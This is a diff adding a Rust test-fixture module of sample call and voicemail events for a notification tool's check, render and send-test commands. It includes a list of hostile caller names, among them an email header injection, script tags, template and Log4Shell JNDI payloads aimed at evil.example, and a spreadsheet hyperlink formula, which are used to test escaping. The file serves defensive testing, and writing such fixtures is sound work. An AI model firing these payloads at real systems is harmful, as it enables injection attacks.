@@ -1,0 +1,104 @@
+//! Sample events: for `check`, `render` and `send-test`, and the hostile ones that templates must survive.
+
+use jiff::{SignedDuration, Timestamp};
+
+use crate::event::{Called, Caller, Event, EventId, EventType, Kind, Standing};
+use crate::private::{Digits, PersonName, PhoneNumber};
+
+/// Names that callers may choose, each against some format.
+pub const HOSTILE_NAMES: [&str; 12] = [
+    "A\r\nBcc: evil@example.com<script>alert(1)</script>{{7*7}}",
+    "<!channel> <!here> <@U012AB3CD> <https://evil.example|Banka> @here",
+    "*kalın* _eğik_ ~çizik~ `kod` :smile:",
+    "\"}],\"blocks\":[{\"x\":\"\\",
+    "\\\"\\u0000\\n'--><!--]]>",
+    "${jndi:ldap://evil.example} {{{caller.number}}} {{> shared/email.head.html}}",
+    "=HYPERLINK(\"https://evil.example\") javascript:alert(1)",
+    "شركة الاتصالات",
+    "\u{202e}67 54 321\u{2066}x\u{200b}y\u{0}\u{1b}[31m",
+    "👩\u{200d}👩\u{200d}👧\u{200d}👦🇹🇷😀",
+    " \u{200b}\u{feff} ",
+    "",
+];
+
+/// A full event, as contract section 4 shows it, that ended at `now`.
+pub fn event(event_type: EventType, now: Timestamp) -> Event {
+    let kind = match event_type {
+        EventType::CallMissed => Kind::Call,
+        EventType::VoicemailNew => Kind::Voicemail,
+    };
+    let uuid = "651f8a68-782e-11e7-a6b6-5bedc26e2ab3";
+    let call = kind == Kind::Call;
+    Event {
+        id: EventId::derive("main", event_type, uuid),
+        account: "main".to_owned(),
+        kind,
+        uuid: uuid.to_owned(),
+        caller: Caller {
+            number: Some(number("03121234567", Some("+903121234567"), "0312 123 45 67")),
+            name: Some(PersonName::new("Mehmet Yılmaz")),
+        },
+        called: Called {
+            number: call.then(|| number("902129876543", Some("+902129876543"), "0212 987 65 43")),
+            name: Some(PersonName::new("Dahili 1")),
+            extension: Some("1002".to_owned()),
+            queue: call.then(|| "201".to_owned()),
+        },
+        started_at: now.saturating_sub(SignedDuration::from_secs(65)).unwrap_or(now),
+        ended_at: now,
+        duration: Some(65),
+        queue_wait: call.then_some(10),
+        result: call.then(|| "Cevapsız".to_owned()),
+        return_uuid: None,
+        recording: !call,
+        seen_at: now,
+        standing: Standing::Announced { at: now },
+    }
+}
+
+/// Events of every kind of sparseness and malice, each with a name.
+pub fn all(event_type: EventType, now: Timestamp) -> Vec<(String, Event)> {
+    let full = event(event_type, now);
+    let mut withheld = full.clone();
+    withheld.caller = Caller::default();
+    let mut sparse = full.clone();
+    sparse.caller.name = None;
+    sparse.called = Called::default();
+    (sparse.duration, sparse.queue_wait, sparse.result) = (None, None, None);
+    let mut inside = full.clone();
+    inside.caller = Caller { number: Some(number("1014", None, "1014")), name: None };
+    let mut long = full.clone();
+    // Four bytes a character, and characters that double when escaped.
+    fill(&mut long, &"😀".repeat(2000), &"\"\\".repeat(2000));
+    let mut samples = vec![
+        ("full".to_owned(), full.clone()),
+        ("withheld".to_owned(), withheld),
+        ("sparse".to_owned(), sparse),
+        ("extension".to_owned(), inside),
+        ("long".to_owned(), long),
+    ];
+    for (position, name) in HOSTILE_NAMES.into_iter().enumerate() {
+        let mut hostile = full.clone();
+        fill(&mut hostile, name, name);
+        samples.push((format!("hostile {position}"), hostile));
+    }
+    samples
+}
+
+/// Puts a text wherever the PBX could.
+pub(super) fn fill(event: &mut Event, name: &str, text: &str) {
+    text.clone_into(&mut event.uuid);
+    event.caller = Caller { number: Some(number(text, None, text)), name: Some(PersonName::new(name)) };
+    event.called = Called {
+        number: Some(number(text, None, text)),
+        name: Some(PersonName::new(name)),
+        extension: Some(text.to_owned()),
+        queue: Some(text.to_owned()),
+    };
+    event.result = Some(text.to_owned());
+    event.return_uuid = Some(text.to_owned());
+}
+
+fn number(raw: &str, e164: Option<&str>, display: &str) -> PhoneNumber {
+    PhoneNumber::new(Digits { raw: raw.to_owned(), e164: e164.map(str::to_owned), display: display.to_owned() })
+}
